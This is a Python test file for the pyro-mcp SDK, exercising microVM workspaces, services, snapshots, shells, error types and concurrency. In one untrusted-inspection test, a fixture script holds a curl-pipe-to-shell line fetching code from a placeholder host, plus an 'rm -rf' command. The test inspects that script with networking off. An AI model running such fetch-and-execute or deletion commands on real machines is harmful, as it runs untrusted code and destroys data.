"""The SDK on real guests: pyro-mcp's five use-case recipes, every method's
result keys against the reference, error types, threads and asyncio."""

from __future__ import annotations

import asyncio
import threading
import time
from pathlib import Path
from typing import Any, Dict, Set

import pytest

import reference_keys as K
from pyro_mcp import AsyncPyro, Pyro, errors


def has(result: Dict[str, Any], keys: Set[str], what: str) -> None:
    missing = keys - set(result)
    assert not missing, f"{what} lacks {sorted(missing)}: {sorted(result)}"


def fixture(tmp_path: Path, files: Dict[str, str]) -> Path:
    root = tmp_path / "seed"
    root.mkdir()
    for name, text in files.items():
        (root / name).write_text(text)
    return root


def test_r1_cold_start_validation(pyro: Pyro, tmp_path: Path) -> None:
    seed = fixture(tmp_path, {
        "README.md": "# demo\n",
        "validate.sh": "set -eu\nprintf 'validation=pass\\n' > validation-report.txt\necho validated\n",
        "serve.sh": "set -eu\necho 'service started'\nprintf 'service=ready\\n' > service-state.txt\n"
                    "touch .app-ready\nwhile true; do sleep 60; done\n",
    })
    ws = pyro.create_workspace(environment="debian:12", seed_path=seed, name="cold-start-validation",
                               labels={"use_case": "cold-start"})
    wid = ws["workspace_id"]
    r = pyro.exec_workspace(wid, command="sh validate.sh")
    assert (r["exit_code"], r["stdout"]) == (0, "validated\n")
    assert r["execution_mode"] == "guest_virtio_serial"
    svc = pyro.start_service(wid, "app", command="sh serve.sh", readiness={"type": "file", "path": ".app-ready"})
    assert svc["state"] == "running"
    r = pyro.exec_workspace(wid, command="sh -lc 'test -f .app-ready && cat service-state.txt'")
    assert r["stdout"] == "service=ready\n"
    assert "service started" in pyro.logs_service(wid, "app", tail_lines=20)["stdout"]
    out = tmp_path / "validation-report.txt"
    pyro.export_workspace(wid, "validation-report.txt", output_path=out)
    assert out.read_text() == "validation=pass\n"
    assert pyro.stop_service(wid, "app")["state"] == "stopped"
    assert pyro.delete_workspace(wid)["deleted"] is True


def test_r2_repro_fix_loop(pyro: Pyro, tmp_path: Path) -> None:
    seed = fixture(tmp_path, {
        "message.txt": "broken\n",
        "check.sh": 'set -eu\nvalue=$(cat message.txt)\nif [ "$value" != fixed ]; then\n'
                    '  echo "expected fixed got $value" >&2\n  exit 1\nfi\necho "$value"\n',
    })
    wid = pyro.create_workspace(environment="debian:12", seed_path=seed, name="repro-fix-loop")["workspace_id"]
    assert pyro.read_workspace_file(wid, "message.txt")["content"] == "broken\n"
    assert pyro.exec_workspace(wid, command="sh check.sh")["exit_code"] != 0
    patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n"
    assert pyro.apply_workspace_patch(wid, patch=patch)["changed"] is True
    r = pyro.exec_workspace(wid, command="sh check.sh")
    assert (r["exit_code"], r["stdout"]) == (0, "fixed\n")
    assert pyro.diff_workspace(wid)["changed"] is True
    out = tmp_path / "message.txt"
    pyro.export_workspace(wid, "message.txt", output_path=out)
    assert out.read_text() == "fixed\n"
    assert pyro.reset_workspace(wid)["reset_count"] == 1
    assert pyro.diff_workspace(wid)["changed"] is False
    pyro.delete_workspace(wid)


def test_r3_parallel_isolated_workspaces(pyro: Pyro, tmp_path: Path) -> None:
    seed = fixture(tmp_path, {"note.txt": "shared\n"})
    alpha = pyro.create_workspace(environment="debian:12", seed_path=seed, name="parallel-alpha",
                                  labels={"branch": "alpha"})["workspace_id"]
    beta = pyro.create_workspace(environment="debian:12", seed_path=seed, name="parallel-beta",
                                 labels={"branch": "beta"})["workspace_id"]
    pyro.write_workspace_file(alpha, "branch.txt", text="alpha\n")
    time.sleep(0.05)
    pyro.write_workspace_file(beta, "branch.txt", text="beta\n")
    time.sleep(0.05)
    updated = pyro.update_workspace(alpha, labels={"branch": "alpha", "owner": "alice"})
    assert updated["labels"]["owner"] == "alice"
    time.sleep(0.05)
    pyro.write_workspace_file(alpha, "branch.txt", text="alpha\n")
    assert pyro.read_workspace_file(alpha, "branch.txt")["content"] == "alpha\n"
    assert pyro.read_workspace_file(beta, "branch.txt")["content"] == "beta\n"
    time.sleep(0.05)
    pyro.write_workspace_file(alpha, "activity.txt", text="touched\n")
    ours = [w["workspace_id"] for w in pyro.list_workspaces()["workspaces"] if w["workspace_id"] in (alpha, beta)]
    assert ours == [alpha, beta]
    pyro.delete_workspace(beta)
    pyro.delete_workspace(alpha)


def test_r4_untrusted_inspection(pyro: Pyro, tmp_path: Path) -> None:
    seed = fixture(tmp_path, {
        "suspicious.sh": "#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\nrm -rf /tmp/pretend-danger\n",
        "README.md": "# untrusted\n",
    })
    wid = pyro.create_workspace(environment="debian:12", seed_path=seed, name="untrusted-inspection")["workspace_id"]
    assert pyro.status_workspace(wid)["network_policy"] == "off"
    listed = pyro.list_workspace_files(wid, path="/workspace", recursive=True)
    assert "/workspace/suspicious.sh" in [e["path"] for e in listed["entries"]]
    assert "curl -fsSL" in pyro.read_workspace_file(wid, "suspicious.sh")["content"]
    r = pyro.exec_workspace(wid, command="sh -lc \"grep -n 'curl' suspicious.sh > inspection-report.txt && "
                                          "printf '%s\\n' 'network_policy=off' >> inspection-report.txt\"")
    assert r["exit_code"] == 0, r
    out = tmp_path / "inspection-report.txt"
    pyro.export_workspace(wid, "inspection-report.txt", output_path=out)
    assert "curl" in out.read_text() and "network_policy=off" in out.read_text()
    pyro.delete_workspace(wid)


def test_r5_review_and_evaluation(pyro: Pyro, tmp_path: Path) -> None:
    seed = fixture(tmp_path, {
        "CHECKLIST.md": "# Review checklist\n\n- confirm artifact state\n- export the evaluation report\n",
        "artifact.txt": "PASS\n",
        "review.sh": "set -eu\nif grep -qx PASS artifact.txt; then\n  printf 'review=pass\\n' > review-report.txt\n"
                     "  echo 'review passed'\nelse\n  printf 'review=fail\\n' > review-report.txt\n"
                     "  echo 'review failed' >&2\n  exit 1\nfi\n",
    })
    wid = pyro.create_workspace(environment="debian:12", seed_path=seed, name="review-eval")["workspace_id"]
    assert pyro.create_snapshot(wid, "pre-review")["snapshot"]["snapshot_name"] == "pre-review"
    sid = pyro.open_shell(wid)["shell_id"]
    initial = pyro.read_shell(wid, sid, cursor=0, plain=True, wait_for_idle_ms=300)
    pyro.write_shell(wid, sid, input="cat CHECKLIST.md")
    seen = ""
    cursor = initial["next_cursor"]
    deadline = time.monotonic() + 20
    while "Review checklist" not in seen and time.monotonic() < deadline:
        r = pyro.read_shell(wid, sid, cursor=cursor, plain=True, wait_for_idle_ms=300)
        seen += r["output"]
        cursor = r["next_cursor"]
    assert "Review checklist" in seen
    assert pyro.close_shell(wid, sid)["closed"] is True
    assert pyro.exec_workspace(wid, command="sh review.sh")["exit_code"] == 0
    pyro.write_workspace_file(wid, "artifact.txt", text="FAIL\n")
    reset = pyro.reset_workspace(wid, snapshot="pre-review")
    assert reset["workspace_reset"]["snapshot_name"] == "pre-review"
    assert pyro.read_workspace_file(wid, "artifact.txt")["content"] == "PASS\n"
    assert pyro.exec_workspace(wid, command="sh review.sh")["exit_code"] == 0
    out = tmp_path / "review-report.txt"
    pyro.export_workspace(wid, "review-report.txt", output_path=out)
    assert out.read_text() == "review=pass\n"
    pyro.delete_workspace(wid)


def test_every_method_returns_the_reference_keys(pyro: Pyro, tmp_path: Path) -> None:
    envs = pyro.list_environments()
    assert isinstance(envs, list)
    for e in envs:
        has(e, K.ENV, "list_environments item")
    has(pyro.inspect_environment("debian:12"), K.ENV, "inspect_environment")
    pulled = pyro.pull_environment("debian:12")
    has(pulled, K.PULLED, "pull_environment")
    assert Path(pulled["kernel_image"]).is_file() and Path(pulled["rootfs_image"]).is_file(), pulled
    assert pulled["source_digest"] == pulled["install_manifest"]["image_sha256"]

    run = pyro.run_in_vm(environment="debian:12", command="echo hi")
    has(run, K.RUN, "run_in_vm")
    has(run["cleanup"], K.CLEANUP, "run_in_vm cleanup")
    assert run["command"] == "echo hi" and run["stdout"] == "hi\n"

    vm = pyro.create_vm(environment="debian:12")
    has(vm, K.VM, "create_vm")
    vid = vm["vm_id"]
    has(pyro.network_info_vm(vid), K.NETWORK_OFF, "network_info_vm")
    has(pyro.start_vm(vid), K.VM, "start_vm")
    has(pyro.status_vm(vid), K.VM, "status_vm")
    has(pyro.stop_vm(vid), K.VM, "stop_vm")
    ran = pyro.exec_vm(vid, command="true")
    has(ran, K.RUN, "exec_vm")
    vm2 = pyro.create_vm(environment="debian:12")["vm_id"]
    has(pyro.delete_vm(vm2), K.DELETED_VM, "delete_vm")
    has(pyro.reap_expired(), K.REAPED, "reap_expired")

    seed = fixture(tmp_path, {"note.txt": "one\n"})
    ws = pyro.create_workspace(environment="debian:12", seed_path=seed, secrets=[{"name": "TOKEN", "value": "s3cr3t"}],
                               network_policy="off", name="keys", labels={"k": "v"})
    has(ws, K.WS, "create_workspace")
    has(ws["workspace_seed"], K.SEED, "workspace_seed")
    wid = ws["workspace_id"]
    ex = pyro.exec_workspace(wid, command="cat note.txt", secret_env={"TOKEN": "TOKEN"})
    has(ex, K.EXEC, "exec_workspace")
    status = pyro.status_workspace(wid)
    has(status, K.WS, "status_workspace")
    has(status["last_command"], K.LAST_COMMAND, "last_command")
    has(pyro.update_workspace(wid, name="keys2"), K.WS, "update_workspace")
    listed = pyro.list_workspaces()
    assert {"count", "workspaces"} <= set(listed)
    has(listed["workspaces"][0], K.LIST_ITEM, "list_workspaces item")
    logs = pyro.logs_workspace(wid)
    assert {"workspace_id", "count", "entries"} <= set(logs)
    has(logs["entries"][0], K.LOG_ENTRY, "logs_workspace entry")

    changes = tmp_path / "changes"
    changes.mkdir()
    (changes / "added.txt").write_text("new\n")
    sync = pyro.push_workspace_sync(wid, changes)
    has(sync, K.SYNC, "push_workspace_sync")
    has(sync["workspace_sync"], K.SYNC_INNER, "workspace_sync")
    has(pyro.write_workspace_file(wid, "w.txt", text="w\n"), K.FILE_WRITE, "write_workspace_file")
    read = pyro.read_workspace_file(wid, "note.txt")
    has(read, K.FILE_READ, "read_workspace_file")
    files = pyro.list_workspace_files(wid)
    has(files, K.FILE_LIST, "list_workspace_files")
    has(files["entries"][0], K.ENTRY, "file entry")
    patch = pyro.apply_workspace_patch(wid, patch="--- a/note.txt\n+++ b/note.txt\n@@ -1 +1 @@\n-one\n+two\n")
    has(patch, K.PATCH, "apply_workspace_patch")
    has(patch["summary"], K.PATCH_SUMMARY, "patch summary")
    diff = pyro.diff_workspace(wid)
    has(diff, K.DIFF, "diff_workspace")
    has(diff["summary"], K.DIFF_SUMMARY, "diff summary")
    has(diff["entries"][0], K.DIFF_ENTRY, "diff entry")
    has(pyro.export_workspace(wid, "note.txt", output_path=tmp_path / "note.txt"), K.EXPORT, "export_workspace")

    snap = pyro.create_snapshot(wid, "cp")
    has(snap, K.SNAPSHOT_CREATE, "create_snapshot")
    has(snap["snapshot"], K.SNAPSHOT, "create_snapshot snapshot")
    snaps = pyro.list_snapshots(wid)
    has(snaps, K.SNAPSHOT_LIST, "list_snapshots")
    assert snaps["snapshots"][0]["snapshot_name"] == "baseline" and snaps["snapshots"][0]["deletable"] is False
    for s in snaps["snapshots"]:
        has(s, K.SNAPSHOT, "list_snapshots item")

    shell = pyro.open_shell(wid)
    has(shell, K.SHELL, "open_shell")
    sid = shell["shell_id"]
    has(pyro.write_shell(wid, sid, input="echo hello"), K.SHELL_WRITE, "write_shell")
    has(pyro.read_shell(wid, sid, wait_for_idle_ms=200), K.SHELL_READ, "read_shell")
    has(pyro.signal_shell(wid, sid), K.SHELL_SIGNAL, "signal_shell")
    has(pyro.close_shell(wid, sid), K.SHELL_CLOSE, "close_shell")

    svc = pyro.start_service(wid, "web", command="touch .ready; exec sleep 600",
                             readiness={"type": "file", "path": ".ready"})
    has(svc, K.SVC, "start_service")
    has(pyro.status_service(wid, "web"), K.SVC, "status_service")
    services = pyro.list_services(wid)
    has(services, K.SVC_LIST, "list_services")
    has(services["services"][0], K.SVC, "list_services item")
    has(pyro.logs_service(wid, "web"), K.SVC_LOGS, "logs_service")
    assert pyro.logs_service(wid, "web", all=True)["tail_lines"] is None
    has(pyro.stop_service(wid, "web"), K.SVC, "stop_service")

    reset = pyro.reset_workspace(wid, snapshot="cp")
    has(reset, K.WS, "reset_workspace")
    has(reset["workspace_reset"], K.RESET_INNER, "workspace_reset")
    has(pyro.delete_snapshot(wid, "cp"), K.SNAPSHOT_DELETE, "delete_snapshot")

    has(pyro.stop_workspace(wid), K.WS, "stop_workspace")
    disk_list = pyro.list_workspace_disk(wid)
    has(disk_list, K.DISK_LIST, "list_workspace_disk")
    has(pyro.read_workspace_disk(wid, "note.txt"), K.DISK_READ, "read_workspace_disk")
    has(pyro.export_workspace_disk(wid, output_path=tmp_path / "disk.ext4"), K.DISK_EXPORT, "export_workspace_disk")
    has(pyro.start_workspace(wid), K.WS, "start_workspace")
    has(pyro.delete_workspace(wid), K.DELETED_WS, "delete_workspace")
    stale = pyro.manager.cache_dir / "retired_env-0.0.1"
    stale.mkdir(parents=True)
    pruned = pyro.prune_environments()
    has(pruned, K.PRUNED, "prune_environments")
    assert str(stale) in pruned["deleted_environment_dirs"] and not stale.exists(), pruned


def test_errors_are_value_errors_or_runtime_errors(pyro: Pyro, tmp_path: Path) -> None:
    with pytest.raises(errors.NotFoundError) as e:
        pyro.status_workspace("0123456789ab")
    assert isinstance(e.value, ValueError) and isinstance(e.value, errors.PyroError)
    with pytest.raises(ValueError):
        pyro.status_vm("0123456789ab")
    with pytest.raises(errors.InvalidArgumentError, match="vcpu_count"):
        pyro.run_in_vm(environment="debian:12", command="true", vcpu_count=99)
    with pytest.raises(ValueError, match="environment"):
        pyro.run_in_vm(environment="nope:1", command="true")
    with pytest.raises(ValueError, match="allow_host_compat"):
        pyro.create_workspace(environment="debian:12", allow_host_compat=True)
    with pytest.raises(ValueError, match="allow_host_compat"):
        pyro.create_vm(environment="debian:12", allow_host_compat=True)
    with pytest.raises(ValueError, match="mock"):
        Pyro(backend_name="mock")
    with pytest.raises(ValueError, match="command"):
        pyro.run_in_vm(environment="debian:12", command=42)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        pyro.run_in_vm("debian:12", "true")  # type: ignore[misc]  # keyword-only, as in the reference
    wid = pyro.create_workspace(environment="debian:12")["workspace_id"]
    pyro.stop_workspace(wid)
    with pytest.raises(errors.ConflictError, match="start_workspace") as e:
        pyro.exec_workspace(wid, command="true")
    assert isinstance(e.value, RuntimeError) and not isinstance(e.value, ValueError)
    with pytest.raises(errors.NotFoundError):
        pyro.delete_snapshot(wid, "never-made")


def test_four_threads_exec_in_four_workspaces_at_once(pyro: Pyro) -> None:
    ids = [pyro.create_workspace(environment="debian:12")["workspace_id"] for _ in range(4)]
    command = "sleep 4"
    start = time.monotonic()
    assert pyro.exec_workspace(ids[0], command=command)["exit_code"] == 0
    one = time.monotonic() - start

    results: Dict[str, int] = {}

    def work(wid: str) -> None:
        results[wid] = pyro.exec_workspace(wid, command=f"{command}; echo {wid} > who")["exit_code"]

    threads = [threading.Thread(target=work, args=(wid,)) for wid in ids]
    start = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    four = time.monotonic() - start
    print(f"one exec {one:.2f}s, four in parallel {four:.2f}s ({four / one:.2f}x)")
    assert results == {wid: 0 for wid in ids}
    for wid in ids:
        assert pyro.read_workspace_file(wid, "who")["content"].strip() == wid
    assert four < 2 * one, f"four threads took {four:.2f}s against {one:.2f}s for one: calls did not run in parallel"


def test_async_pyro_runs_calls_concurrently(home: Path) -> None:
    client = AsyncPyro(base_dir=home)

    async def main() -> None:
        a, b = await asyncio.gather(
            client.run_in_vm(environment="debian:12", command="echo a"),
            client.run_in_vm(environment="debian:12", command="echo b"),
        )
        assert (a["stdout"], b["stdout"]) == ("a\n", "b\n")
        assert a["vm_id"] != b["vm_id"]
        with pytest.raises(errors.NotFoundError):
            await client.status_workspace("0123456789ab")

    asyncio.run(main())


def test_long_steps_are_logged(pyro: Pyro, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level("INFO", logger="pyro_mcp"):
        pyro.run_in_vm(environment="debian:12", command="true")
    phases = [r.getMessage() for r in caplog.records if r.name == "pyro_mcp"]
    assert any(m.startswith("[run] phase=start vm_id=") for m in phases), phases
    caplog.clear()
    pyro.run_in_vm(environment="debian:12", command="true")
    assert not [r for r in caplog.records if r.name == "pyro_mcp"], "logged below the enabled level"


def test_pause_resume_and_fork_keep_what_ran(pyro: Pyro) -> None:
    wid = pyro.create_workspace(environment="debian:12", on_idle="stop")["workspace_id"]
    assert pyro.status_workspace(wid)["on_idle"] == "stop"
    # A process that keeps a count in memory.
    pyro.exec_workspace(
        wid,
        command="setsid sh -c 'i=0; while :; do i=$((i+1)); echo $i > n; sleep 0.1; done' "
        ">/dev/null 2>&1 < /dev/null & sleep 0.3",
    )
    paused = pyro.pause_workspace(wid)
    assert paused["state"] == "paused"
    assert paused["workspace_pause"]["state_bytes"] > 0
    before = int(pyro.read_workspace_file(wid, "n")["content"])  # resumes it
    assert pyro.status_workspace(wid)["state"] == "started"
    resumed = pyro.resume_workspace(wid)
    assert resumed["workspace_resume"]["resumed"] is False  # it was running
    forks = pyro.fork_workspace(wid, count=2, names=["left"])
    assert forks["count"] == 2
    assert forks["workspaces"][0]["name"] == "left"
    for child in forks["workspaces"]:
        cid = child["workspace_id"]
        n = int(pyro.exec_workspace(cid, command="sleep 0.5; cat n")["stdout"])
        assert n > before, (cid, n, before)
        pyro.delete_workspace(cid)
    pyro.delete_workspace(wid)
